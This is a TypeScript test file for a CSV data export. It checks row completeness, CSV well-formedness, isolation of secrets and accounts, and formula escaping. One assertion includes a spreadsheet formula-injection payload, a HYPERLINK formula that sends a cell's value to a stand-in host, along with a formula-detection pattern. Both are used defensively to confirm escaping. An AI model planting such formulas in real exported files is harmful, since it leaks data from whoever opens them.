/**
 * What every query-backed table of the Data Files zip owes (docs/EXPORTS.md#the-full-data-export,
 * docs/EXPORTS.md#names-and-cells): one row per row of its source table, ids unique and all of
 * them, in id order, a well-formed human CSV (BOM, CRLF, RFC 4180, formula escaping), no secret,
 * nothing of another account, and the same bytes whatever the batch size.
 */
import fs from "node:fs";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { DB } from "../../../../src/db/schema/index.js";
import { DATA_TABLES } from "../../../../src/exports/formats/full/tables/index.js";
import { DIALECTS } from "../../../support/dialects.js";
import { parseCsv, pythonParse, type ReadTable, writeTable } from "./csv-read.js";
import { OTHER_CANARIES, SECRETS, seedTablesFixture, type TablesFixture } from "./fixture.js";

/** A cell an importer would run as a formula: the writer must have put a `'` before it. */
const FORMULA_START = /^[=+\-@\t\r\n]/;

describe.each(DIALECTS)("Data Files tables on %s", (dialect) => {
  let fx: TablesFixture;
  const written = new Map<string, ReadTable & { path: string }>();

  beforeAll(async () => {
    fx = await seedTablesFixture(dialect);
    // Like the export: all tables read inside one read snapshot.
    await fx.database.readSnapshot(async (db) => {
      const source = { db, accountId: fx.accountId, signal: new AbortController().signal };
      for (const table of DATA_TABLES) written.set(table.file, await writeTable(table, source));
    });
  }, 120_000);
  afterAll(() => fx?.cleanup());

  it("lists the eight tables in file-name order, each for a table of the catalog", () => {
    const files = DATA_TABLES.map((t) => t.file);
    expect(files).toEqual([
      "Audit_Logs.csv",
      "Companies.csv",
      "Contacts.csv",
      "Folder_Records.csv",
      "Job_Pipelines.csv",
      "Jobs.csv",
      "Tasks.csv",
      "Users.csv",
    ]);
    expect(files).toEqual([...files].sort());
  });

  it.each(DATA_TABLES.map((t) => [t.file, t] as const))(
    "%s: one row per source row, by id",
    async (file, t) => {
      const read = written.get(file)!;
      const folded = read.header.map((h) => h.toLowerCase());
      expect(new Set(folded).size).toBe(folded.length);
      expect(read.header[0]).toMatch(/ ID$/);
      for (const row of read.raw) expect(row).toHaveLength(read.header.length);
      const table = t.rowsOf as keyof DB;
      const ids = (
        await fx.database.db
          .selectFrom(table)
          .select(sql<string>`id`.as("id"))
          .where(sql.ref("account_id"), "=", fx.accountId)
          .execute()
      ).map((r) => r.id);
      const written_ = read.records.map((r) => r[read.header[0]!]!);
      expect(written_.length).toBeGreaterThan(0);
      expect(written_).toEqual([...ids].sort()); // every id once, ascending
    },
  );

  it.each(DATA_TABLES.map((t) => [t.file]))("%s: BOM, CRLF records, RFC 4180 as Python reads it", (file) => {
    const read = written.get(file)!;
    expect([...read.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(read.bytes.subarray(-2).toString()).toBe("\r\n");
    expect(pythonParse(read.path)).toEqual([read.header, ...read.raw]);
  });

  it("escapes every formula-leading cell with a leading ' (and round-trips it)", () => {
    let escaped = 0;
    for (const read of written.values()) {
      for (const row of read.raw) {
        for (const c of row) {
          expect(c).not.toMatch(FORMULA_START);
          if (c.startsWith("'")) escaped++;
        }
      }
    }
    expect(escaped).toBeGreaterThan(20); // the hostile slice reached the tables
    const jobs = fs.readFileSync(written.get("Jobs.csv")!.path, "utf8");
    expect(jobs).toContain(`"'=HYPERLINK(""http://x/?""&A1,""cv"")"`);
    expect(jobs).toContain(",''already,");
  });

  it("never writes a secret, nor anything of the other account", async () => {
    const { db } = fx.database;
    const keys = await db.selectFrom("attachments").select("storage_key").execute();
    const secrets = [SECRETS.passwordHash, SECRETS.tokenHash, ...keys.map((k) => k.storage_key)];
    // Other's ids, but for the two records Acme rows point at on purpose (their ids are data).
    const otherIds: string[] = [];
    for (const table of [
      "users",
      "companies",
      "client_contacts",
      "persons",
      "jobs",
      "applications",
    ] as const) {
      const rows = await db
        .selectFrom(table)
        .select("id")
        .where("account_id", "=", fx.otherAccountId)
        .execute();
      otherIds.push(
        ...rows.map((r) => r.id).filter((id) => id !== fx.otherCompanyId && id !== fx.otherUserId),
      );
    }
    expect(otherIds.length).toBeGreaterThan(10);
    for (const read of written.values()) {
      const text = read.bytes.toString("utf8");
      for (const s of [...secrets, OTHER_CANARIES.company, OTHER_CANARIES.user])
        expect(text).not.toContain(s);
      for (const id of otherIds) expect(text.includes(id), `${read.file} holds ${id}`).toBe(false);
    }
  });

  it.each(DATA_TABLES.map((t) => [t.file, t] as const))("%s: same bytes in tiny batches", async (file, t) => {
    const rows = written.get(file)!.raw.length;
    for (const batchSize of [3, rows]) {
      const source = { db: fx.database.db, accountId: fx.accountId, signal: new AbortController().signal };
      const again = await writeTable(t, { ...source, batchSize });
      expect(again.bytes.equals(written.get(file)!.bytes), `batch size ${batchSize}`).toBe(true);
    }
  });

  it("stops with the abort reason when the signal is aborted", async () => {
    const ac = new AbortController();
    ac.abort(new Error("lease lost"));
    const opened = await DATA_TABLES[0]!.open({
      db: fx.database.db,
      accountId: fx.accountId,
      signal: ac.signal,
    });
    await expect(opened.rows[Symbol.asyncIterator]().next()).rejects.toThrow("lease lost");
  });

  it("parses strictly (the test's own parser)", () => {
    expect(parseCsv('a,"b ""c""\r\nd"\r\n,\r\n')).toEqual([
      ["a", 'b "c"\r\nd'],
      ["", ""],
    ]);
    expect(() => parseCsv("a\nb\r\n")).toThrow();
    expect(() => parseCsv('a"b\r\n')).toThrow();
    expect(() => parseCsv("a,b")).toThrow();
  });
});
